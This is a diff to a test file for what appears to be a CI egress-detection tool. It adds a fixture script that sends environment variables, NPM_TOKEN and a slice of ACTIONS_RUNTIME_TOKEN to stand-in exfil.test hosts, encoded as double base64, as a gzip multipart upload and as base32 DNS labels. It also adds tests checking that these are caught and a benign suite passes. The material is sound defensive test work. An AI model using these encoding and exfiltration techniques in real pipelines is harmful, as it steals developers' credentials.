@@ -174,12 +174,60 @@ client.sendall(b"ping")
 say("echo", client.recv(100).decode())
 """
 
+# --------------------------------------------------------------------------- item 2: encodings
+
+# Secrets leave wrapped: tj-actions' `base64 -w0 | base64 -w0`, a gzip file in a
+# multipart upload, base32 of a slice of a token in DNS labels.
+ENCODED_EXFIL = r"""
+import base64, gzip, json, os, socket, urllib.request
+
+env = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
+twice = base64.b64encode(base64.b64encode(env))
+urllib.request.urlopen("https://twice.exfil.test/b64", data=twice, timeout=20)
+
+boundary = "----formdata"
+archive = gzip.compress(json.dumps({"npm": os.environ["NPM_TOKEN"]}).encode())
+head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gz\"\r\n"
+        "Content-Type: application/gzip\r\n\r\n")
+form = head.encode() + archive + f"\r\n--{boundary}--\r\n".encode()
+urllib.request.urlopen(urllib.request.Request(
+    "https://upload.exfil.test/form", data=form,
+    headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}), timeout=20)
+
+token = os.environ["ACTIONS_RUNTIME_TOKEN"][-120:-80].encode()  # a slice of its signature
+name = base64.b32encode(token).decode().rstrip("=").lower()
+labels = ".".join(name[i:i + 40] for i in range(0, len(name), 40))
+try:
+    socket.gethostbyname(f"{labels}.dns.exfil.test")
+except OSError:
+    pass
+print("sent")
+"""
+
+# The benign twin: a test suite that fetches a web page, posts telemetry compressed and
+# uploads fixtures (random bytes, base64, a gzip file): nothing of it is a decoy.
+WEB_TESTS = r"""
+import base64, gzip, json, os, urllib.request
+
+page = urllib.request.urlopen("https://docs.example.test/page", timeout=20).read()
+telemetry = gzip.compress(json.dumps({"tests": 12, "python": "3", "ci": os.environ["CI"]}).encode())
+urllib.request.urlopen(urllib.request.Request("https://telemetry.example.test/v1", data=telemetry,
+    headers={"Content-Encoding": "gzip"}), timeout=20)
+blob = os.urandom(600_000)
+urllib.request.urlopen("https://fixtures.example.test/raw", data=blob, timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/b64", data=base64.b64encode(blob), timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/gz", data=gzip.compress(blob), timeout=20)
+print("fetched", len(page))
+"""
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
     "looks-like-a-job": Case(
         scripted(), {"ci/test.sh": python(LOOKS_LIKE_A_JOB), "calc.py": CALC + "# v2\n"}
     ),
+    "encoded-exfil": Case(scripted(), {"ci/test.sh": python(ENCODED_EXFIL)}),
+    "web-tests": Case(scripted(), {"ci/test.sh": python(WEB_TESTS)}),
 }
 
 
@@ -341,4 +389,45 @@ def test_a_ci_aware_test_suite_sees_an_actions_job_and_stays_clean(reviews: Revi
     assert out["worker_exe"] == "/home/runner/runners/2.321.0/bin/Runner.Worker", out
     assert out["traces"] == "none", out
     assert out["echo"] == "ping", out
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 2
+
+
+def test_decoys_wrapped_as_campaigns_wrap_them_are_found_and_block(reviews: Reviews) -> None:
+    review = reviews.get("encoded-exfil")
+    assert_blocked(review, "decoy-egress")
+    (command,) = review.report("tests")["commands"]
+    assert "sent" in command["stdout_tail"], command
+    by_host = {e["host"]: e for e in review.report("tests")["egress"] if e["decoy_seen"]}
+    twice = by_host["twice.exfil.test"]
+    assert "body:base64+base64" in twice["decoy_where"], twice
+    assert {"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "AWS_SECRET_ACCESS_KEY"} <= set(
+        twice["decoy_seen"]
+    )
+    form = by_host["upload.exfil.test"]
+    assert (form["decoy_seen"], form["decoy_where"]) == (["NPM_TOKEN"], ["body:multipart+gzip"])
+    (dns,) = [e for e in by_host.values() if e["route"] == "dns"]
+    assert dns["host"].endswith(".dns.exfil.test")
+    # 40 characters of a 1,300-character token, base32 in lower case over two labels.
+    assert (dns["decoy_seen"], dns["decoy_where"]) == (["ACTIONS_RUNTIME_TOKEN"], ["dns:base32"])
+    assert_whole(review)
+
+
+def test_a_suite_that_fetches_pages_and_uploads_fixtures_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("web-tests")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    # Only warnings that the tests reached the web; no decoy, and every body searched.
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    egress = review.report("tests")["egress"]
+    assert {e["host"] for e in egress if e["route"] != "dns"} == {
+        "docs.example.test",
+        "telemetry.example.test",
+        "fixtures.example.test",
+    }
+    for item in egress:
+        assert item["decoy_seen"] == [], item
+        assert item["decoy_where"] == [], item  # no search ran out of budget
     assert_whole(review)
